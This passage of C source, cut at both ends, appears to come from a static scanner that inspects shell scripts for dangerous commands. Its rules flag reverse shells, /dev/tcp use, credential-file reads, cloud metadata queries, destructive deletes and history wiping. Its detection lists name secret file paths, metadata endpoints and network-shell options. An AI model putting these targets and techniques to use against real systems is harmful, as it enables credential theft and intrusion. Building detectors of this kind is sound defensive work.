        bool assignments;     /* NAME=VALUE words before the command */
} Wrapper;

static const char wrapper_names[] = "|sudo|doas|env|nohup|setsid|builtin|command|exec|time|nice|"
                                    "ionice|timeout|stdbuf|xargs|busybox|taskset|chroot|watch|"
                                    "strace|flock|";

/* Commands that run their arguments as a command. */
static const Wrapper wrappers[] = {
    {"sudo", "ugpChrtDTU", "|--user|--group|--prompt|--chdir|--host|", "lvVKk", 0, true},
    {"doas", "uC", NULL, NULL, 0, false},
    {"env", "uCS", "|--unset|--chdir|", NULL, 0, true},
    {"nohup", "", NULL, NULL, 0, false},
    {"setsid", "", NULL, NULL, 0, false},
    {"builtin", "", NULL, NULL, 0, false},
    {"command", "", NULL, "vV", 0, false},
    {"exec", "a", NULL, NULL, 0, false},
    {"time", "fo", "|--format|--output|", NULL, 0, false},
    {"nice", "n", "|--adjustment|", NULL, 0, false},
    {"ionice", "cnt", "|--class|--classdata|", "p", 0, false},
    {"timeout", "sk", "|--signal|--kill-after|", NULL, 1, false},
    {"stdbuf", "ioe", "|--input|--output|--error|", NULL, 0, false},
    {"xargs", "aEdIiLlnPs", "|--arg-file|--delimiter|--max-args|--max-procs|", NULL, 0, false},
    {"busybox", "", NULL, NULL, 0, false},
    {"taskset", "", NULL, "p", 1, false},
    {"chroot", "", "|--userspec|--groups|", NULL, 1, false},
    {"watch", "nd", "|--interval|", NULL, 0, false},
    {"strace", "eoEpsuS", NULL, NULL, 0, false},
    {"flock", "wEc", NULL, NULL, 1, false},
};

/* Index of the command a wrapped command line runs, or SIZE_MAX when it runs none. */
static size_t unwrap(const Cmd *cmd, size_t i)
{
        for (size_t round = 0; round < MAX_UNWRAP && i < cmd->n; round++) {
                const char *name = word_name(&cmd->w[i]);
                const Wrapper *wr = NULL;
                unsigned positional;
                size_t j;

                if (!in_list(wrapper_names, name))
                        break;
                for (size_t k = 0; k < ELEMENTSOF(wrappers); k++)
                        if (streq(wrappers[k].name, name))
                                wr = &wrappers[k];
                if (!wr)
                        break;
                positional = wr->positional;
                for (j = i + 1; j < cmd->n; j++) {
                        const Word *a = &cmd->w[j];
                        const char *s = a->s;

                        if (!(a->flags & W_LITERAL))
                                break;
                        if (streq(s, "--")) {
                                j++;
                                break;
                        }
                        if (wr->assignments && (a->flags & W_ASSIGN))
                                continue;
                        if (is_opt(s) && s[1] == '-') {
                                if (wr->long_arg && !strchr(s, '=') && in_list(wr->long_arg, s))
                                        j++;
                                continue;
                        }
                        if (is_opt(s)) {
                                if (wr->not_run && strchr(wr->not_run, s[1]))
                                        return SIZE_MAX;
                                for (size_t k = 1; s[k]; k++)
                                        if (strchr(wr->with_arg, s[k])) {
                                                if (!s[k + 1])
                                                        j++;
                                                break;
                                        }
                                continue;
                        }
                        if (positional > 0) {
                                positional--;
                                continue;
                        }
                        break;
                }
                if (j >= cmd->n)
                        break; /* a wrapper with nothing to run is the command itself */
                i = j;
        }
        return i;
}

/* How an interpreter gets its program. */
enum { I_NONE, I_STDIN, I_SCRIPT, I_CODE, I_MODULE };

typedef struct Interp {
        int how;
        size_t arg; /* argv index of the script or code */
        bool interactive;
} Interp;

static Interp interp_of(const Call *c)
{
        bool shell = is_shell(c->name), py = startswith(c->name, "python");
        const char *code = shell ? "c" : py ? "c" : streq(c->name, "php") ? "r" : "eEp";
        const char *with_arg = shell ? "oO" : py ? "WXQ" : "IM";
        Interp in = {.how = I_STDIN};
        bool is_code = false;

        for (size_t i = 1; i < c->argc; i++) {
                const char *a = arg(c, i);

                if (!a)
                        return (Interp){.how = is_code ? I_CODE : I_SCRIPT, .arg = i};
                if (streq(a, "-") || streq(a, "--")) {
                        if (streq(a, "-"))
                                return in;
                        continue;
                }
                if (a[0] == '-' && a[1] == '-') {
                        if (streq(a, "--eval") || streq(a, "--print"))
                                is_code = true;
                        else if (streq(a, "--rcfile") || streq(a, "--init-file"))
                                i++;
                        continue;
                }
                if ((a[0] == '-' || (shell && a[0] == '+')) && a[1]) {
                        for (size_t k = 1; a[k]; k++) {
                                if (strchr(code, a[k]))
                                        is_code = true;
                                else if (shell && a[k] == 'i')
                                        in.interactive = true;
                                else if (shell && a[k] == 's')
                                        return in; /* bash -s: the script is stdin */
                                else if (py && a[k] == 'm')
                                        return (Interp){.how = I_MODULE};
                                else if (strchr(with_arg, a[k])) {
                                        if (!a[k + 1])
                                                i++;
                                        break;
                                }
                        }
                        continue;
                }
                in.how = is_code ? I_CODE : I_SCRIPT;
                in.arg = i;
                return in;
        }
        return in;
}

/* ---- nested scripts ---- */

/* Scans s, the text of tokens at..last, as a script of its own. */
static void scan_string(const Call *c, const char *s, const ShToken *at, const ShToken *last)
{
        Script *sp = c->wk->sp;
        uint32_t line, col;

        map_pos(sp, at, &line, &col);
        if (sp->depth + 1 > SCRIPT_DEPTH) {
                if (!sp->sc->limit_reported) {
                        sp->sc->limit_reported = true;
                        emit_call(c, R_LIMIT, "scripts nested deeper than %d levels not scanned",
                                  SCRIPT_DEPTH);
                }
                return;
        }
        scan_script(sp->sc, s, strlen(s), line, col, end_line(sp, last), sp->depth + 1);
}

/* A code string: scanned when known, flagged when it downloads or decodes. */
static void check_code(const Call *c, const Word *w, const char *what)
{
        if (w->flags & W_DECODE)
                emit_call(c, R_DECODE, "%s runs decoded text", what);
        else if (w->flags & W_FETCH)
                emit_call(c, R_REMOTE, "%s runs downloaded text", what);
        else if (w->flags & W_LITERAL)
                scan_string(c, w->s, &c->wk->sp->ts.tokens[w->tok],
                            &c->wk->sp->ts.tokens[w->last_tok]);
        else
                emit_call(c, R_DYNEXEC, "%s runs a string built at run time", what);
}

static bool was_fetched(Scanner *sc, const char *path)
{
        if (!path)
                return false;
        if (startswith(path, "./"))
                path += 2;
        for (size_t i = 0; i < sc->n_fetched; i++)
                if (streq(sc->fetched[i], path))
                        return true;
        return false;
}

static void remember_fetched(Scanner *sc, const char *path)
{
        char *copy;

        if (!path || streq(path, "-") || sc->n_fetched >= MAX_FETCHED || was_fetched(sc, path))
                return;
        if (startswith(path, "./"))
                path += 2;
        copy = strdup(path);
        if (copy)
                sc->fetched[sc->n_fetched++] = copy;
}

/* A script file argument or stdin source that is downloaded or decoded code. */
static void check_script_word(const Call *c, const Word *w, const char *what)
{
        if (w->flags & W_DECODE)
                emit_call(c, R_DECODE, "%s runs decoded text", what);
        else if (w->flags & W_FETCH)
                emit_call(c, R_REMOTE, "%s runs a download", what);
        else if ((w->flags & W_LITERAL) && was_fetched(c->wk->sp->sc, w->s))
                emit_call(c, R_REMOTE, "runs the downloaded file %s", w->s);
}

/* The interpreter's program: -c strings, script files, here-docs, here-strings. */
static void rule_interpreter(const Call *c)
{
        Interp in = interp_of(c);
        bool shell = is_shell(c->name);
        const Script *sp = c->wk->sp;

        if (in.how == I_CODE && shell)
                check_code(c, &c->argv[in.arg], c->name);
        else if (in.how == I_CODE)
                check_script_word(c, &c->argv[in.arg], c->name);
        else if (in.how == I_SCRIPT)
                check_script_word(c, &c->argv[in.arg], c->name);
        if (in.how != I_STDIN)
                return;
        for (size_t i = 0; i < c->cmd->n_r; i++) {
                const Redir *r = &c->cmd->r[i];

                if (r->fd > 0 || !r->target.s)
                        continue;
                if ((r->op == SH_OP_DLESS || r->op == SH_OP_DLESSDASH) && shell &&
                    r->heredoc != SH_NONE) {
                        const ShToken *h = &sp->ts.tokens[r->heredoc];
                        _cleanup_free_ char *body = strndup(sh_token_raw(&sp->ts, h), h->length);

                        if (body)
                                scan_string(c, body, h, h);
                } else if (r->op == SH_OP_TLESS && shell) {
                        check_code(c, &r->target, c->name);
                } else if (r->op == SH_OP_LESS) {
                        check_script_word(c, &r->target, c->name);
                }
        }
}

/* ---- the rules, one command at a time ---- */

static void rule_rm(const Call *c)
{
        bool rec = has_opt(c, 'r', "--recursive") || has_opt(c, 'R', NULL);
        bool nopreserve = has_opt(c, 0, "--no-preserve-root");
        bool opts = true;

        for (size_t i = 1; i < c->argc; i++) {
                const Word *w = &c->argv[i];
                unsigned f;

                if (opts && streq(w->s, "--")) {
                        opts = false;
                        continue;
                }
                if (opts && is_opt(w->s) && (w->flags & W_LITERAL))
                        continue;
                f = classify_word(w);
                if ((rec && (f & (P_ROOT | P_HOME | P_SYSTEM))) || (rec && nopreserve))
                        emit_call(c, R_RMRF, "rm -r of %s", w->s);
                else if (rec && (f & P_VARSLASH))
                        emit_call(c, R_RMRF_VAR, "rm -r of %s: / when the variable is empty", w->s);
                if (f & P_ETC)
                        emit_call(c, R_ETCWRITE, "deletes %s", w->s);
                if (f & P_LOG)
                        emit_call(c, R_LOGWIPE, "deletes the log %s", w->s);
                if (f & P_HISTORY)
                        emit_call(c, R_HISTORY, "deletes the history file %s", w->s);
        }
}

static void rule_find(const Call *c)
{
        bool deletes = false;
        size_t i;

        for (i = 1; i < c->argc; i++) {
                const char *a = arg(c, i);

                if (streq(a, "-delete"))
                        deletes = true;
                if (in_list("|-exec|-execdir|-ok|-okdir|", a) && i + 1 < c->argc &&
                    in_list("|rm|shred|unlink|", word_name(&c->argv[i + 1])))
                        deletes = true;
        }
        if (!deletes)
                return;
        for (i = 1; i < c->argc; i++) {
                const Word *w = &c->argv[i];
                unsigned f;

                if (w->s[0] == '-' || streq(w->s, "(") || streq(w->s, "!"))
                        break; /* the start points come first */
                f = classify_word(w);
                if (f & (P_ROOT | P_HOME | P_SYSTEM))
                        emit_call(c, R_FIND, "find deletes from %s", w->s);
                if (f & P_LOG)
                        emit_call(c, R_LOGWIPE, "find deletes logs in %s", w->s);
        }
}

static bool mode_is_setid(const char *m)
{
        size_t n = strspn(m, "01234567");

        if (n == strlen(m) && n >= 4)
                return (m[n - 4] - '0') & 6; /* the digit before the user's: 4 setuid, 2 setgid */
        for (const char *p = strpbrk(m, "+="); p; p = strpbrk(p + 1, "+="))
                for (const char *q = p + 1; *q && !strchr(",+-=", *q); q++)
                        if (*q == 's')
                                return true;
        return false;
}

static bool mode_is_world_writable(const char *m)
{
        size_t n = strspn(m, "01234567");
        const char *p;

        if (n == strlen(m) && n >= 3)
                return (m[n - 1] - '0') & 2;
        for (p = strpbrk(m, "+="); p; p = strpbrk(p + 1, "+=")) {
                const char *who = p, *q;

                while (who > m && !strchr(",", who[-1]))
                        who--;
                if (who != p && !memchr(who, 'o', (size_t)(p - who)) &&
                    !memchr(who, 'a', (size_t)(p - who)))
                        continue;
                for (q = p + 1; *q && !strchr(",+-=", *q); q++)
                        if (*q == 'w')
                                return true;
        }
        return false;
}

static void rule_chmod(const Call *c)
{
        bool rec = has_opt(c, 'R', "--recursive"), chmod = streq(c->name, "chmod");
        const char *mode = NULL;
        bool first = true;

        for (size_t i = 1; i < c->argc; i++) {
                const Word *w = &c->argv[i];
                unsigned f;

                if ((w->flags & W_LITERAL) &&
                    (startswith(w->s, "--") || (w->s[0] == '-' && w->s[1] &&
                                                strspn(w->s + 1, "RvcfhHLP") == strlen(w->s + 1))))
                        continue;
                if (first) { /* the mode, or the owner */
                        first = false;
                        mode = (w->flags & W_LITERAL) ? w->s : NULL;
                        if (chmod && mode && mode_is_setid(mode))
                                emit_call(c, R_SETUID, "chmod %s sets the setuid/setgid bit", mode);
                        continue;
                }
                f = classify_word(w);
                if (rec && (f & (P_ROOT | P_SYSTEM)))
                        emit_call(c, R_CHMOD, "recursive change of %s", w->s);
                else if (chmod && mode && mode_is_world_writable(mode) &&
                         (f & (P_ROOT | P_SYSTEM | P_ETC | P_HOME)))
                        emit_call(c, R_CHMOD, "makes %s world-writable", w->s);
                else if (f & P_ETC)
                        emit_call(c, R_ETCWRITE, "changes the mode or owner of %s", w->s);
        }
}

/* curl -o FILE, -sSoFILE, --output FILE; wget -O FILE, -qO FILE: the file the download goes
 * to, either the next word or the rest of the cluster (then in *attached). */
static bool output_option(const Call *c, size_t i, const Word **ret, Word *attached)
{
        bool curl = streq(c->name, "curl");
        const char letter = curl ? 'o' : 'O', *lng = curl ? "--output" : "--output-document";
        /* Short options that take a value: the rest of a cluster after them is that value. */
        const char *valued = curl ? "AbcCdDeEFHKmPQrTuwxXYyz" : "abBeiIlnoPQtTUwX";
        const char *a = arg(c, i);

        if (!a || !is_opt(a))
                return false;
        if (a[1] == '-') {
                if (streq(a, lng) && i + 1 < c->argc) {
                        *ret = &c->argv[i + 1];
                        return true;
                }
                return false;
        }
        for (size_t k = 1; a[k]; k++) {
                if (a[k] == letter) {
                        if (a[k + 1] == '\0') {
                                if (i + 1 >= c->argc)
                                        return false;
                                *ret = &c->argv[i + 1];
                                return true;
                        }
                        *attached = (Word){.s = (char *)a + k + 1,
                                           .tok = c->argv[i].tok,
                                           .flags = c->argv[i].flags};
                        *ret = attached;
                        return !streq(attached->s, "-");
                }
                if (strchr(valued, a[k]))
                        return false;
        }
        return false;
}

/* tee, truncate, shred: every plain argument is written (tee -a appends). */
static void writes_arguments(const Call *c)
{
        bool truncates = !streq(c->name, "tee") || !has_opt(c, 'a', "--append");

        for (size_t i = 1; i < c->argc; i++) {
                const Word *w = &c->argv[i];

                if ((w->flags & W_LITERAL) && is_opt(w->s)) {
                        if (streq(w->s, "-s") || streq(w->s, "-r") || streq(w->s, "-n"))
                                i++; /* truncate -s SIZE, -r REF; shred -n N */
                        continue;
                }
                check_write(c, w->s, w->flags, truncates,
                            streq(c->name, "shred") ? "shreds" : "writes");
        }
}

/* cp, mv, install, ln, rsync: the destination, given with -t or last. */
static void writes_destination(const Call *c)
{
        const Word *dest = NULL, *last = NULL;
        size_t n_plain = 0;

        for (size_t i = 1; i < c->argc; i++) {
                const Word *w = &c->argv[i];
                bool lit = w->flags & W_LITERAL;

                if (lit && (streq(w->s, "-t") || streq(w->s, "--target-directory")) &&
                    i + 1 < c->argc) {
                        dest = &c->argv[++i];
                        continue;
                }
                if (lit && startswith(w->s, "--target-directory=")) {
                        check_write(c, strchr(w->s, '=') + 1, w->flags, true, "replaces");
                        return;
                }
                if (lit && is_opt(w->s)) {
                        if (streq(w->s, "-m") || streq(w->s, "-o") || streq(w->s, "-g"))
                                i++; /* install -m MODE -o OWNER -g GROUP */
                        continue;
                }
                last = w;
                n_plain++;
        }
        if (!dest && n_plain >= 2)
                dest = last;
        if (dest)
                check_write(c, dest->s, dest->flags, true, "replaces");
}

/* sed -i: the files after the script (all plain words when -e or -f gave it). */
static void writes_in_place(const Call *c)
{
        bool script_given = has_opt(c, 'e', "--expression") || has_opt(c, 'f', "--file");

        for (size_t i = 1; i < c->argc; i++) {
                const Word *w = &c->argv[i];

                if ((w->flags & W_LITERAL) && is_opt(w->s)) {
                        if (streq(w->s, "-e") || streq(w->s, "-f"))
                                i++;
                        continue;
                }
                if (!script_given) {
                        script_given = true;
                        continue;
                }
                check_write(c, w->s, w->flags, false, "edits in place");
        }
}

/* curl -o, wget -O: written, and remembered in case the script runs it later. */
static void writes_download(const Call *c)
{
        for (size_t i = 1; i < c->argc; i++) {
                const Word *out = NULL;
                Word attached;

                if (!output_option(c, i, &out, &attached))
                        continue;
                if (out == &c->argv[i + 1])
                        i++;
                check_write(c, out->s, out->flags, true, "downloads into");
                if (out->flags & W_LITERAL)
                        remember_fetched(c->wk->sp->sc, out->s);
        }
}

/* Commands that write the files their arguments name. */
static void rule_writers(const Call *c)
{
        const char *n = c->name;

        if (in_list("|tee|truncate|shred|", n))
                writes_arguments(c);
        else if (in_list("|cp|mv|install|ln|rsync|", n))
                writes_destination(c);
        else if (streq(n, "sed") && has_opt(c, 'i', "--in-place"))
                writes_in_place(c);
        else if (streq(n, "curl") || streq(n, "wget"))
                writes_download(c);
        else if (streq(n, "dd"))
                for (size_t i = 1; i < c->argc; i++)
                        if (startswith(c->argv[i].s, "of="))
                                check_write(c, c->argv[i].s + 3, c->argv[i].flags, true,
                                            "dd writes");
}

/* Credential files: any command reading them is flagged, except the ones that use them as
 * intended (ssh -i, chmod 600) or only test for them. */
static const struct {
        const char *text;
        bool anywhere; /* substring; otherwise the whole path */
} secrets[] = {
    {"/etc/shadow", false},
    {"/etc/gshadow", false},
    {"/etc/shadow-", false},
    {"/etc/master.passwd", false},
    {"/.ssh/id_", true},
    {"/var/run/secrets/", true},
    {"/run/secrets/", true},
    {".aws/credentials", true},
    {".config/gcloud/", true},
    {".azure/", true},
    {".kube/config", true},
    {".docker/config.json", true},
    {".netrc", true},
    {".git-credentials", true},
    {".pgpass", true},
    {"/etc/ssh/ssh_host_", true},
    {"/proc/self/environ", true},
    {"/proc/1/environ", true},
};

static const char *secret_in(const char *s)
{
        if (!s)
                return NULL;
        if (startswith(s, ".ssh/id_") && !strstr(s, ".pub"))
                return ".ssh/id_";
        for (size_t i = 0; i < ELEMENTSOF(secrets); i++) {
                if (secrets[i].anywhere ? !strstr(s, secrets[i].text) : !streq(s, secrets[i].text))
                        continue;
                if ((streq(secrets[i].text, "/.ssh/id_") ||
                     streq(secrets[i].text, "/etc/ssh/ssh_host_")) &&
                    strstr(s, ".pub"))
                        continue; /* public keys are meant to be read */
                return secrets[i].text;
        }
        return NULL;
}

/* Options whose value is a credential file handed to the tool that uses it (ssh -i KEY,
 * kubectl --kubeconfig FILE): a use, not a read to take it elsewhere. */
static const char credential_options[] = "|-i|--identity|--identity-file|--netrc-file|--kubeconfig|"
                                         "--key|--cert|--private-key|--key-file|"
                                         "--credentials-file|--shared-credentials-file|";

/* Tools that use credential files as designed, or only test, list or move them. */
static const char credential_users[] = "|ssh|ssh-add|ssh-keygen|ssh-copy-id|sftp|chmod|chown|chgrp|"
                                       "ls|test|[|[[|mkdir|touch|stat|rm|shred|echo|printf|tee|"
                                       "export|declare|local|readonly|typeset|kubectl|helm|aws|"
                                       "gcloud|az|docker|podman|terraform|git|";

static void rule_credentials(const Call *c)
{
        /* cp, mv, install, ln, scp, rsync read their sources; the last word is written. */
        size_t end = in_list("|cp|mv|install|ln|scp|rsync|", c->name) ? c->argc - 1 : c->argc;

        if (in_list(credential_users, c->name))
                end = 0;
        for (size_t i = 1; i < end; i++) {
                const Word *w = &c->argv[i];
                const char *eq = strchr(w->s, '=');

                if (in_list(credential_options, c->argv[i - 1].s) || (w->flags & W_ASSIGN))
                        continue;
                if (startswith(w->s, "--") && eq) { /* --kubeconfig=FILE */
                        char opt[64];

                        snprintf(opt, sizeof(opt), "%.*s", (int)(eq - w->s), w->s);
                        if (in_list(credential_options, opt))
                                continue;
                }
                if (secret_in(w->s)) {
                        emit_call(c, R_CRED, "reads %s", w->s);
                        return;
                }
        }
        for (size_t i = 0; i < c->cmd->n_r; i++) {
                const Redir *r = &c->cmd->r[i];

                if (r->op == SH_OP_LESS && secret_in(r->target.s)) {
                        emit_call(c, R_CRED, "reads %s", r->target.s);
                        return;
                }
        }
}

static void rule_metadata(const Call *c)
{
        static const char *const hosts[] = {"169.254.169.254", "metadata.google.internal",
                                            "169.254.170.2",   "100.100.100.200",
                                            "fd00:ec2::254",   NULL};

        if (!is_fetcher(c->name) && !is_nettool(c->name))
                return;
        for (size_t i = 1; i < c->argc; i++)
                for (size_t k = 0; hosts[k]; k++)
                        if (strstr(c->argv[i].s, hosts[k])) {
                                emit_call(c, R_METADATA, "queries %s", hosts[k]);
                                return;
                        }
}

static void rule_kill(const Call *c)
{
        size_t i = 1;

        if (streq(c->name, "killall5")) {
                emit_call(c, R_KILLALL, "%s signals every process", c->name);
                return;
        }
        if (in_list("|-s|-n|", arg(c, 1)))
                i = 3;
        else if (is_opt(arg(c, 1)) && !streq(arg(c, 1), "--"))
                i = 2; /* the signal: -9, -KILL */
        for (; i < c->argc; i++)
                if (streq(arg(c, i), "-1")) {
                        emit_call(c, R_KILLALL, "kill -1: every process");
                        return;
                }
}

static void rule_nettool(const Call *c)
{
        const char *n = c->name;

        if (streq(n, "socat")) {
                bool exec = false, net = false;

                for (size_t i = 1; i < c->argc; i++) {
                        const char *a = c->argv[i].s;

                        if (!strncasecmp(a, "exec:", 5) || !strncasecmp(a, "system:", 7))
                                exec = true;
                        if (!strncasecmp(a, "tcp", 3) || !strncasecmp(a, "udp", 3) ||
                            !strncasecmp(a, "openssl", 7) || !strncasecmp(a, "sctp", 4))
                                net = true;
                }
                if (exec && net) {
                        emit_call(c, R_REVSHELL, "socat joins a program to a connection");
                        return;
                }
        } else if (!in_list("|telnet|nmap|masscan|", n)) {
                for (size_t i = 1; i < c->argc; i++) {
                        const char *a = arg(c, i);

                        if (!a || !is_opt(a))
                                continue;
                        if (startswith(a, "--exec") || startswith(a, "--sh-exec") ||
                            startswith(a, "--lua-exec") || (a[1] != '-' && strpbrk(a + 1, "ec"))) {
                                emit_call(c, R_REVSHELL, "%s runs a program for the connection", n);
                                return;
                        }
                }
        }
        emit_call(c, R_NETTOOL, "%s opens raw network connections", n);
}

/* Simple rules: the command, and the arguments that make it match (NULL: any use). */
static const struct {
        const char *names;
        const char *args; /* "|...|": an argument equal to one of these */
        unsigned rule;
        const char *why; /* follows the command's name */
} simple_rules[] = {
    {"|mkfs|mke2fs|mkswap|wipefs|mkdosfs|mkntfs|", NULL, R_MKFS, "formats or wipes"},
    {"|insmod|modprobe|rmmod|", NULL, R_KMOD, "changes the kernel's modules"},
    {"|nsenter|", NULL, R_NSENTER, "enters other namespaces"},
    {"|unshare|", NULL, R_UNSHARE, "makes new namespaces"},
    {"|chattr|", NULL, R_CHATTR, "changes file attributes"},
    {"|at|batch|", NULL, R_AT, "schedules a job"},
    {"|systemctl|", "|enable|reenable|link|preset|", R_SERVICE, "enables a service"},
    {"|update-rc.d|", "|defaults|enable|", R_SERVICE, "enables a service"},
    {"|chkconfig|", "|on|", R_SERVICE, "enables a service"},
    {"|rc-update|", "|add|", R_SERVICE, "enables a service"},
    {"|iptables|ip6tables|iptables-legacy|iptables-nft|ebtables|arptables|",
     "|-F|--flush|-X|--delete-chain|", R_FIREWALL, "flushes firewall rules"},
    {"|nft|", "|flush|", R_FIREWALL, "flushes firewall rules"},
    {"|ufw|", "|disable|reset|", R_FIREWALL, "turns the firewall off"},
    {"|setenforce|", "|0|Permissive|permissive|", R_FIREWALL, "turns SELinux off"},
    {"|journalctl|", "|--vacuum-time|--vacuum-size|--vacuum-files|", R_LOGWIPE,
     "deletes journal files"},
    {"|dmesg|", "|-c|-C|--clear|--read-clear|", R_LOGWIPE, "clears the kernel log"},
    {"|unset|", "|HISTFILE|", R_HISTORY, "HISTFILE: history is not saved"},
};

static void rule_simple(const Call *c)
{
        for (size_t k = 0; k < ELEMENTSOF(simple_rules); k++) {
                bool hit = !simple_rules[k].args;

                if (!in_list(simple_rules[k].names, c->name) &&
                    !(startswith(c->name, "mkfs.") && simple_rules[k].rule == R_MKFS))
                        continue;
                for (size_t i = 1; i < c->argc && !hit; i++) {
                        const char *a = arg(c, i), *eq = a ? strchr(a, '=') : NULL;
                        char head[64];

                        if (eq && (size_t)(eq - a) < sizeof(head)) {
                                memcpy(head, a, (size_t)(eq - a));
                                head[eq - a] = '\0';
                                a = head; /* --vacuum-time=1s */
                        }
                        hit = in_list(simple_rules[k].args, a);
                }
                if (hit)
                        emit_call(c, simple_rules[k].rule, "%s %s", c->name, simple_rules[k].why);
        }
}

static void rule_misc(const Call *c)
{
        const char *n = c->name;

        if (streq(n, "mount") && c->argc > 1 &&
            !(c->argc == 2 && in_list("|-l|-h|--help|-V|--version|", arg(c, 1))))
                emit_call(c, R_MOUNT, "%s attaches a file system", n);
        if (streq(n, "crontab")) {
                for (size_t i = 1; i < c->argc; i++) {
                        const char *a = c->argv[i].s;

                        if (streq(a, "-u")) {
                                i++;
                                continue;
                        }
                        if (streq(a, "-e") || streq(a, "-r") || streq(a, "-") || !is_opt(a)) {
                                emit_call(c, R_CRON, "crontab %s installs or edits jobs", a);
                                break;
                        }
                }
        }
        if (streq(n, "history") && has_opt(c, 'c', NULL))
                emit_call(c, R_HISTORY, "%s -c clears the history", n);
        if (streq(n, "set") && has_arg(c, "+o") && has_arg(c, "history"))
                emit_call(c, R_HISTORY, "%s +o history stops recording", n);
        if (in_list("|kill|killall5|", n))
                rule_kill(c);
        if (in_list("|chmod|chown|chgrp|", n))
                rule_chmod(c);
        if (streq(n, "rm") || streq(n, "unlink"))
                rule_rm(c);
        if (streq(n, "find"))
                rule_find(c);
        if (is_nettool(n))
                rule_nettool(c);
        if (in_list("|eval|", n) && c->argc > 1) {
                Word joined = {.tok = c->argv[1].tok,
                               .last_tok = c->argv[c->argc - 1].tok,
                               .flags = W_LITERAL};
                Buf b = {};

                for (size_t i = 1; i < c->argc; i++) {
                        buf_add(&b, c->argv[i].s, strlen(c->argv[i].s));
                        buf_add(&b, " ", 1);
                        joined.flags = (joined.flags & (c->argv[i].flags | ~W_LITERAL)) |
                                       (c->argv[i].flags & (W_FETCH | W_DECODE));
                }
                joined.s = b.p;
                if (joined.s)
                        check_code(c, &joined, n);
                free(b.p);
        }
        if (streq(n, "trap") && c->argc > 2 && !is_opt(arg(c, 1)))
                check_code(c, &c->argv[1], n); /* the handler is code run later */
        if ((streq(n, "source") || streq(n, ".")) && c->argc > 1)
                check_script_word(c, &c->argv[1], n);
        if (streq(n, "su") || streq(n, "runuser"))
                for (size_t i = 1; i + 1 < c->argc; i++)
                        if (in_list("|-c|--command|", arg(c, i)))
                                check_code(c, &c->argv[i + 1], n);
}

/* HISTFILE=/dev/null, HISTSIZE=0, in a prefix, alone, or given to export/declare/... */
static void check_assignment(const Call *c, const Word *w)
{
        if (!(w->flags & W_ASSIGN))
                return;
        if ((startswith(w->s, "HISTFILE=") && (streq(w->s + 9, "/dev/null") || w->s[9] == '\0')) ||
            streq(w->s, "HISTSIZE=0") || streq(w->s, "HISTFILESIZE=0"))
                emit_call(c, R_HISTORY, "%s: history is not saved", w->s);
}

/* /dev/tcp redirections, and writes through > >> >| &> <>. */
static void rule_redirections(const Call *c)
{
        Scanner *sc = c->wk->sp->sc;
        bool shell = c->name && (is_shell(c->name) || is_interpreter(c->name));

        for (size_t i = 0; i < c->cmd->n_r; i++) {
                const Redir *r = &c->cmd->r[i];
                const char *t = r->target.s;
                unsigned f;
                bool writes, truncates;

                if (!t)
                        continue;
                if ((r->op == SH_OP_GREATAND || r->op == SH_OP_LESSAND) && t[0] >= '0' &&
                    t[0] <= '9' && !t[1]) {
                        if (shell && (sc->tcp_fds & (1ull << (t[0] - '0'))))
                                emit_call(c, R_REVSHELL, "%s reads or writes a /dev/tcp fd",
                                          c->name);
                        continue;
                }
                f = classify_word(&r->target);
                if (f & P_DEVNET) {
                        if (shell)
                                emit_call(c, R_REVSHELL, "%s wired to %s", c->name, t);
                        else
                                emit_call(c, R_DEVTCP, "connects to %s", t);
                        if (streq(c->name, "exec") && c->argc == 1 && r->fd >= 0 && r->fd < 64)
                                sc->tcp_fds |= 1ull << r->fd;
                        continue;
                }
                writes = r->op == SH_OP_GREAT || r->op == SH_OP_DGREAT || r->op == SH_OP_CLOBBER ||
                         r->op == SH_OP_AMP_GREAT || r->op == SH_OP_AMP_DGREAT ||
                         r->op == SH_OP_LESSGREAT || r->op == SH_OP_GREATAND;
                truncates = r->op == SH_OP_GREAT || r->op == SH_OP_CLOBBER ||
                            r->op == SH_OP_AMP_GREAT || r->op == SH_OP_GREATAND;
                if (writes)
                        check_write(c, t, r->target.flags, truncates, "writes");
        }
}

/* The command name itself: spelled to dodge a match, or computed at run time. */
static void rule_name(const Call *c)
{
        const Word *w = &c->argv[0];
        const char *n = c->name;

        if (w->flags & W_DECODE)
                emit_call(c, R_DECODE, "runs the output of a decoder as a command");
        else if (w->flags & W_FETCH)
                emit_call(c, R_REMOTE, "runs downloaded text as a command");
        else if (!(w->flags & W_LITERAL))
                emit_call(c, R_DYNEXEC, "command name %s is computed at run time", w->s);
        else if ((w->flags & W_QUOTED) && n && *n &&
                 !(c->wk->sp->ts.tokens[w->tok].flags & SH_WORD_EXPANDS) &&
                 strspn(w->s, "abcdefghijklmnopqrstuvwxyz0123456789_.-") == strlen(w->s))
                emit_call(c, R_OBFUSC, "command name %s written with quotes or escapes", n);
        else if (was_fetched(c->wk->sp->sc, w->s))
                emit_call(c, R_REMOTE, "runs the downloaded file %s", w->s);
}

/* ---- structure: functions and loops, for fork bombs ---- */

enum { F_SCRIPT = F_IF + 1 };

static void push(Walk *wk, Frame f)
{
        if (wk->n_frames < MAX_FRAMES)
                wk->frames[wk->n_frames++] = f;
        else
                wk->overflow++;
}

static void finish(Walk *wk, const Frame *f)
{
        Script *sp = wk->sp;

        if (wk->summary)
                return;

        if ((f->kind == F_FUNC_BRACE || f->kind == F_FUNC_PAREN || f->kind == F_SCRIPT) &&
            f->self_calls >= 2 && f->forking_calls >= 1)
                emit(sp, R_FORKBOMB, f->tok, f->tok, "%s starts itself %u times, %u forked",
                     f->name, f->self_calls, f->forking_calls);
        if (f->kind == F_LOOP && f->forever && f->bg > 0 && !f->pause)
                emit(sp, R_FORKLOOP, f->tok, f->tok,
                     "endless loop starts background processes without waiting");
}

/* Closes the innermost frame of one of the kinds (a mask); frames above it close too. */
static void pop(Walk *wk, unsigned kinds)
{
        size_t k;

        if (wk->overflow > 0) {
                wk->overflow--;
                return;
        }
        for (k = wk->n_frames; k-- > 0;)
                if ((1u << wk->frames[k].kind) & kinds)
                        break;
        if (k == SIZE_MAX)
                return;
        while (wk->n_frames > k) {
                wk->n_frames--;
                finish(wk, &wk->frames[wk->n_frames]);
                wk->closed_pause |= wk->frames[wk->n_frames].pause;
        }
        wk->closed_group = true;
}

static Frame *innermost(Walk *wk, unsigned kinds)
{
        for (size_t k = wk->n_frames; k-- > 0;)
                if ((1u << wk->frames[k].kind) & kinds)
                        return &wk->frames[k];
        return NULL;
}

#define FUNC_KINDS ((1u << F_FUNC_BRACE) | (1u << F_FUNC_PAREN) | (1u << F_SCRIPT))

static void track_structure(const Call *c, const Interp *in)
{
        Walk *wk = c->wk;
        const char *self = c->argv[0].s;
